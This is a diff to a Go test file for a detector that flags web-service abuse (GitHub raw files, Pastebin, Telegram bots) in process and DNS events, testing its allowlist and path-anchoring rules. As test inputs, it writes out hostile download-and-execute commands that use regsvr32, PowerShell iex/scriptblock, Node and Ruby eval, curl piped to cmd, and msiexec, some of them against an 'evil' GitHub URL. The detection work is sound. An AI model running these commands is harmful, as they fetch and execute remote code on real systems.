@@ -468,8 +468,8 @@ func TestDetector(t *testing.T) {
 			check: func(t *testing.T, r *Result) {
 				require.False(t, r.Allowlisted)
 				require.True(t, r.Pass, "it fetches raw content itself")
-				require.Equal(t, "t1102_allowlist.csv:15", r.UnexpectedPath)
-				require.Contains(t, strs(r.Reasons), "msmpeng.exe outside its expected path (t1102_allowlist.csv:15)")
+				require.Equal(t, "t1102_allowlist.csv:21", r.UnexpectedPath)
+				require.Contains(t, strs(r.Reasons), "msmpeng.exe outside its expected path (t1102_allowlist.csv:21)")
 				require.GreaterOrEqual(t, r.RiskScore, 40)
 			},
 		},
@@ -490,9 +490,14 @@ func TestDetector(t *testing.T) {
 			},
 		},
 		{
-			name: "puppet's ruby", reason: "an IT agent by its install path",
-			ev:    Event{EventCode: b("22"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), QueryName: b("raw.githubusercontent.com")},
+			name: "puppet's ruby", reason: "an IT agent by its install path and the service account it runs as",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), User: b(`NT AUTHORITY\SYSTEM`), QueryName: b("raw.githubusercontent.com")},
 			check: func(t *testing.T, r *Result) { require.Equal(t, "it_agent", r.ContextKind) },
+		},
+		{
+			name: "puppet's ruby as a user", reason: "the agent runs as SYSTEM; a user running Puppet's ruby gets no context",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), User: b(`CORP\bob`), QueryName: b("raw.githubusercontent.com")},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind) },
 		},
 		{
 			name: "ruby elsewhere", reason: "the same ruby.exe outside Puppet's folder gets no context",
@@ -526,10 +531,82 @@ func TestDetector(t *testing.T) {
 			},
 		},
 		{
+			name: "context never lowers running fetched code", reason: "Puppet's ruby evaluating a raw GitHub file is what the detection is for (review finding)",
+			ev: Event{EventCode: b("1"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), User: b(`NT AUTHORITY\SYSTEM`),
+				CommandLine: b(`ruby.exe -e "require 'net/http';eval(Net::HTTP.get(URI('https://raw.githubusercontent.com/evil/x/main/a.rb')))"`)},
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "eval of a fetched body", r.DownloadExecute)
+				require.Empty(t, r.ContextKind)
+				require.GreaterOrEqual(t, r.RiskScore, 40)
+			},
+		},
+		{
+			name: "context never lowers a command endpoint", reason: "the same agent asking a Telegram bot for updates",
+			ev: Event{EventCode: b("1"), Image: b(`C:\Program Files\Puppet Labs\Puppet\puppet\bin\ruby.exe`), User: b(`NT AUTHORITY\SYSTEM`),
+				CommandLine: b(`ruby.exe -e "puts Net::HTTP.get(URI('https://api.telegram.org/bot1:A/getUpdates'))"`)},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.CommandEndpoint)
+				require.Empty(t, r.ContextKind)
+				require.GreaterOrEqual(t, r.RiskScore, 40)
+			},
+		},
+		{
+			name: "allowlist never hides running fetched code", reason: "VS Code run as Node evaluating a raw file is not VS Code's ordinary work",
+			ev: Event{EventCode: b("1"), Image: b(`C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe`),
+				CommandLine: b(`Code.exe -e "require('https').get('https://raw.githubusercontent.com/e/x/main/a.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"`)},
+			check: func(t *testing.T, r *Result) {
+				require.False(t, r.Allowlisted)
+				require.True(t, r.Pass, "it fetches raw content itself")
+				require.Contains(t, strs(r.Reasons), "not allowlisted by t1102_allowlist.csv:11: it runs what it fetches")
+			},
+		},
+		{
+			name: "artifact context ignores the query", reason: "?x=/releases/download/ says nothing about where the file is",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b(`curl -o a.ps1 "https://github.com/evil/r/raw/main/a.ps1?x=/releases/download/"`)},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.ContextKind); require.True(t, r.RawContent) },
+		},
+		{
+			name: "allowlist path anchored", reason: "a folder named Git under Public is not Git for Windows",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\Users\Public\Git\cmd\git.exe`), QueryName: b("github.com")},
+			check: func(t *testing.T, r *Result) { require.False(t, r.Allowlisted); require.NotEmpty(t, r.UnexpectedPath) },
+		},
+		{
+			name: "sha256sum is not sh", reason: "a checksum after a download is not an interpreter",
+			ev:    Event{EventCode: b("1"), Image: b(`/usr/bin/bash`), CommandLine: b(`bash -c "curl -sL https://github.com/cli/cli/releases/download/v2.62.0/gh_2.62.0_checksums.txt | sha256sum -c"`)},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
+		},
+		{
+			name: "iex in a url", reason: "a file named iex in a URL is not Invoke-Expression",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b(`curl -LO https://github.com/elixir-lang/elixir/raw/main/bin/iex`)},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
+		},
+		{
+			name: "eval inside a word", reason: "retrieval is not eval",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\python.exe`), CommandLine: b(`python.exe retrieval eval.py --src https://github.com/a/b --lib urllib`)},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.DownloadExecute) },
+		},
+		{
 			name: "multivalue host", reason: "a multivalue field arrives as values joined by newlines; each is a host",
 			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b("curl https://example.org/a\nhttps://pastebin.com/raw/b")},
 			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category) },
 		},
+	}
+	// Forms of download and execute, each found.
+	for _, tt := range []struct{ name, image, cmd, reason string }{
+		{"quoted scriptlet url", `C:\Windows\System32\regsvr32.exe`, `regsvr32 /s /n /u /i:"https://raw.githubusercontent.com/x/y.sct" scrobj.dll`, "the URL in quotes"},
+		{"scriptblock create", `C:\x\powershell.exe`, `powershell -c "& ([scriptblock]::Create((irm https://github.com/e/r/raw/main/a.ps1)))"`, "a script block from a download"},
+		{"backtick escape", `C:\x\powershell.exe`, "powershell -c \"i`ex (iwr https://github.com/e/r/raw/main/a.ps1)\"", "PowerShell's escape character"},
+		{"then eval", `C:\x\node.exe`, `node -e "fetch('https://github.com/e/r/raw/main/x.js').then(r=>r.text()).then(eval)"`, "a promise chain into eval"},
+		{"pipe into cmd", `C:\x\cmd.exe`, `cmd /c curl -s https://pastebin.com/raw/x | cmd`, "cmd as the interpreter"},
+		{"msiexec url", `C:\Windows\System32\msiexec.exe`, `msiexec /q /i https://github.com/e/r/releases/download/v1/a.msi`, "msiexec installs from a URL"},
+	} {
+		tests = append(tests, struct {
+			name   string
+			reason string
+			ev     Event
+			check  func(t *testing.T, r *Result)
+		}{name: "finds " + tt.name, reason: tt.reason, ev: Event{EventCode: b("1"), Image: b(tt.image), CommandLine: b(tt.cmd)},
+			check: func(t *testing.T, r *Result) { require.NotEmpty(t, r.DownloadExecute, "%+v", strs(r.Reasons)) }})
 	}
 	s := d.NewScorer()
 	for _, tt := range tests {
@@ -673,4 +750,42 @@ func TestGlob(t *testing.T) {
 	}
 	_, err := CompileGlob("**")
 	require.ErrorIs(t, err, ErrEmptyPattern)
+}
+
+// TestAllowPathBeforePEName: a rule for a program by name says where it
+// belongs whatever its PE name condition, and a rule for the name without a
+// path lets it run anywhere (review finding: a pe_name on a rule used to
+// switch the path check off).
+func TestAllowPathBeforePEName(t *testing.T) {
+	path, err := CompileGlob(`C:\Program Files\Git\*\git.exe`)
+	require.NoError(t, err)
+	cat := func(rules ...AllowRule) *Detector {
+		return NewDetector(&Catalog{Services: []Service{{Domain: "github.com", Category: "github"}}, Allow: rules,
+			Weights: Weights{Service: 10, UnexpectedPath: 25}})
+	}
+	strict := AllowRule{Process: "git.exe", PEName: "git.exe", Path: &path, Domains: []string{"github.com"}, Ref: "a:2"}
+	anywhere := AllowRule{Process: "git.exe", Domains: []string{"github.com"}, Ref: "a:3"}
+	ev := func(image, ofn string) *Event {
+		return &Event{EventCode: b("1"), Image: b(image), OriginalFileName: b(ofn), CommandLine: b("git clone https://github.com/a/b")}
+	}
+	for _, tt := range []struct {
+		name       string
+		d          *Detector
+		ev         *Event
+		allowed    bool
+		unexpected string
+		reason     string
+	}{
+		{"installed", cat(strict), ev(`C:\Program Files\Git\cmd\git.exe`, "git.exe"), true, "", "path and PE name match"},
+		{"impostor, no pe name", cat(strict), ev(`C:\Users\Public\git.exe`, ""), false, "a:2", "outside the path: unexpected, whatever the PE name"},
+		{"impostor, other pe name", cat(strict), ev(`C:\Users\Public\git.exe`, "evil.exe"), false, "a:2", "the PE name condition does not hide the path"},
+		{"installed, other pe name", cat(strict), ev(`C:\Program Files\Git\cmd\git.exe`, "evil.exe"), false, "", "where git belongs, but not git: not allowed, not unexpected"},
+		{"a rule without a path", cat(strict, anywhere), ev(`D:\tools\git.exe`, ""), true, "", "a path-less rule for the name places it anywhere"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			r := tt.d.NewScorer().Score(tt.ev)
+			require.Equal(t, tt.allowed, r.Allowlisted, tt.reason)
+			require.Equal(t, tt.unexpected, r.UnexpectedPath, tt.reason)
+		})
+	}
 }
